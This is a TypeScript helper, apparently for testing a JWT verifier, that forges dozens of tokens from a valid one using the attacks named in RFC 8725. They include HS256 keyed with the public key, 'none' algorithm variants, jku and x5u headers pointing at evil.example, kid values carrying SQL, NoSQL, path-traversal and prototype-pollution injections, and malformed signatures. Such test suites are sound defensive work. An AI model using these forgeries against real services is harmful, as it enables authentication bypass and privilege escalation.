import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto'

/** A key in a JWK set. */
export type Jwk = Record<string, unknown>

const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const parsed = (text = ''): Record<string, unknown> => JSON.parse(Buffer.from(text, 'base64url').toString())

/** Signs a token with the attacker's own key. */
function signed(header: object, payload: string, key: KeyObject): string {
  const input = `${part(header)}.${payload}`
  const type = key.asymmetricKeyType
  const signature =
    type === 'ed25519'
      ? sign(null, Buffer.from(input), key)
      : sign('sha256', Buffer.from(input), type === 'ec' ? { key, dsaEncoding: 'ieee-p1363' } : key)
  return `${input}.${signature.toString('base64url')}`
}

const own = {
  ES256: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
  RS256: generateKeyPairSync('rsa', { modulusLength: 2048 }),
  EdDSA: generateKeyPairSync('ed25519'),
} as const

/** The claims that an attacker wants: by default, more than the access token allows. */
const greedy = { sub: 'usr_somebody', scope: 'openid photos.delete', exp: 2 ** 40 }

/**
 * Tokens that an attacker can forge from a valid token without its key: the attacks of RFC 8725 §2, and those that
 * have succeeded against libraries. `keys`: the public keys.
 */
export function forgeries(
  token: string,
  keys: readonly Jwk[],
  wanted: Readonly<Record<string, unknown>> = greedy,
): Record<string, string> {
  const [head = '', payload = '', signature = ''] = token.split('.')
  const header = parsed(head)
  const jwk = keys.find(({ kid }) => kid === header.kid) ?? {}
  const alg = header.alg as keyof typeof own
  const mine = own[alg]
  const myJwk = { ...mine.publicKey.export({ format: 'jwk' }), kid: header.kid, alg }
  const ofOthers = keys.filter(({ kid }) => kid !== header.kid)
  const raised = part({
    ...parsed(payload),
    ...wanted,
  })
  const publicKey = createPublicKey({ key: jwk, format: 'jwk' })
  const macs = [
    publicKey.export({ format: 'pem', type: 'spki' }),
    publicKey.export({ format: 'der', type: 'spki' }),
    JSON.stringify(jwk),
    '',
  ].map((key, index) => {
    const input = `${part({ ...header, alg: 'HS256' })}.${payload}`
    return [
      `HS256 with the public key (${index})`,
      `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`,
    ]
  })
  const unsigned = ['none', 'None', 'NONE', 'nOnE', '', null, 0, ['ES256'], { alg: 'ES256' }].flatMap(
    (none) => [
      [`alg ${JSON.stringify(none)} without signature`, `${part({ ...header, alg: none })}.${payload}.`],
      [
        `alg ${JSON.stringify(none)} with the signature`,
        `${part({ ...header, alg: none })}.${payload}.${signature}`,
      ],
    ],
  )
  const members = {
    crit: ['exp'],
    b64: false,
    jwk: myJwk,
    jku: 'https://evil.example/jwks',
    x5u: 'https://evil.example/cert',
    x5c: ['MIIB'],
    zip: 'DEF',
    cty: 'JWT',
    nested: { typ: 'JWT' },
  }
  const added = Object.entries(members).flatMap(([name, value]) => [
    [
      `${name} added under the old signature`,
      `${part({ ...header, [name]: value })}.${payload}.${signature}`,
    ],
    [
      `${name} added, signed with the attacker's key`,
      signed({ ...header, [name]: value }, raised, mine.privateKey),
    ],
  ])
  const kids = [
    undefined,
    null,
    7,
    '',
    '../keys',
    "' or '1'='1",
    '__proto__',
    'constructor',
    ['x'],
    { $ne: '' },
  ]
  const strangeKids = kids.map((kid) => [
    `kid ${JSON.stringify(kid)}`,
    signed({ ...header, kid }, raised, mine.privateKey),
  ])
  const typs = ['JWT', 'at+jwt', 'application/at+jwt', 'AT+JWT', 'dpop+jwt', 'logout+jwt', undefined, 'jwt']
  const strangeTyps = typs
    .filter((typ) => typ !== header.typ)
    .map((typ) => [`typ ${typ}`, `${part({ ...header, typ })}.${payload}.${signature}`])
  const swappedKids = ofOthers.map(({ kid = '', alg: other }) => [
    `the kid of our ${other} key`,
    `${part({ ...header, kid })}.${payload}.${signature}`,
  ])
  const raw = Buffer.from(signature, 'base64url')
  const truncated = raw.subarray(0, -1).toString('base64url')
  return Object.fromEntries([
    ...macs,
    ...unsigned,
    ...added,
    ...strangeKids,
    ...strangeTyps,
    ...swappedKids,
    ['the attacker’s key under our kid', signed(header, raised, mine.privateKey)],
    ['the same claims, signed with the attacker’s key', signed(header, payload, mine.privateKey)],
    ['other claims with the original signature', `${head}.${raised}.${signature}`],
    [
      'the header members in another order',
      `${part({ kid: header.kid, typ: header.typ, alg })}.${payload}.${signature}`,
    ],
    [
      'a header with spaces',
      `${Buffer.from(JSON.stringify(header, null, 1)).toString('base64url')}.${payload}.${signature}`,
    ],
    [
      'a header with a duplicate member',
      `${Buffer.from(`{"alg":"none",${JSON.stringify(header).slice(1)}`).toString('base64url')}.${payload}.${signature}`,
    ],
    ['no signature', `${head}.${payload}.`],
    ['no signature and no dot', `${head}.${payload}`],
    ['four parts', `${token}.${signature}`],
    ['five parts', `${token}..`],
    ['a padded signature', `${token}=`],
    ['a padded header', `${head}=.${payload}.${signature}`],
    ['a signature cut short', `${head}.${payload}.${truncated}`],
    ['a signature of zeros', `${head}.${payload}.${Buffer.alloc(raw.length).toString('base64url')}`],
    [
      'an empty DER signature',
      `${head}.${payload}.${Buffer.from('300602010002010', 'hex').toString('base64url')}`,
    ],
    ['a signature of one byte', `${head}.${payload}.AA`],
    ['a long signature', `${head}.${payload}.${Buffer.alloc(4096, 1).toString('base64url')}`],
    ['a space before it', ` ${token}`],
    ['a space after it', `${token} `],
    ['a line break after it', `${token}\n`],
    ['a space inside', token.replace('.', '. ')],
    ['base64 instead of base64url', `${token.replace(/-/g, '+').replace(/_/g, '/')}==`],
    ['another last character that decodes to the same bytes', respelt(token)],
    ['a header that is not JSON', `AAAA.${payload}.${signature}`],
    ['a header that is a list', `${part([header])}.${payload}.${signature}`],
    ['a header that is null', `${part(null)}.${payload}.${signature}`],
    ['a payload that is a string', signed(header, part('text'), mine.privateKey)],
    [
      'a deeply nested header',
      `${Buffer.from('['.repeat(5000)).toString('base64url')}.${payload}.${signature}`,
    ],
    ['a huge token', `${head}.${payload}${'A'.repeat(30_000)}.${signature}`],
    ['only dots', '...'],
    ['two dots', '..'],
  ])
}

/** Changes the last character of base64url in bits that do not belong to any byte. */
export function respelt(token: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  const last = token.at(-1) ?? ''
  const bytes = Buffer.from(token.split('.')[2] ?? '', 'base64url')
  for (const other of alphabet) {
    const candidate = token.slice(0, -1) + other
    const same = Buffer.from(candidate.split('.')[2] ?? '', 'base64url').equals(bytes)
    if (other !== last && same) return candidate
  }
  return `${token}A`
}
